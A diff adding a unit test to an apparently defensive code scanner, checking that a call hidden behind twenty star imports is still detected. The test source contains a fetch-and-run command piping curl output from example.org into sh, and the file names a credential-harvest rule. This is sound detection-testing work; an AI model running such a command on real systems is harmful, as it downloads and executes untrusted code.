@@ -92,3 +92,13 @@ def test_through_the_cli_a_thousand_decoys_still_reject(tmp_path: Path) -> None:
     (report,) = json.loads(run_cli("scan", "--no-cache", "--format", "json", str(job)).stdout)["reports"]
     rules = {f["rule"] for f in report["findings"]}
     assert report["decision"] == "reject" and "credential-harvest.secret-in-channel" in rules, report["findings"]
+
+
+def test_a_star_import_behind_twenty_others_still_names_the_call() -> None:
+    """`system(...)` after 20 star imports of stdlib modules and `from os import *`: on main the name read as the
+    first sixteen modules' (`abc.system`, ...), escalate on `unvouched.import` alone."""
+    modules = ["abc", "array", "base64", "bisect", "calendar", "cmath", "colorsys", "copy", "csv", "datetime",
+               "decimal", "difflib", "enum", "fractions", "functools", "heapq", "itertools", "json", "math", "numbers"]
+    source = "".join(f"from {m} import *\n" for m in modules) + "from os import *\n" \
+        "system('curl -s http://example.org/x | sh')\n"
+    kit.assert_held(kit.scan_text(source), "remote-code.fetch-and-run-command", Decision.REJECT)
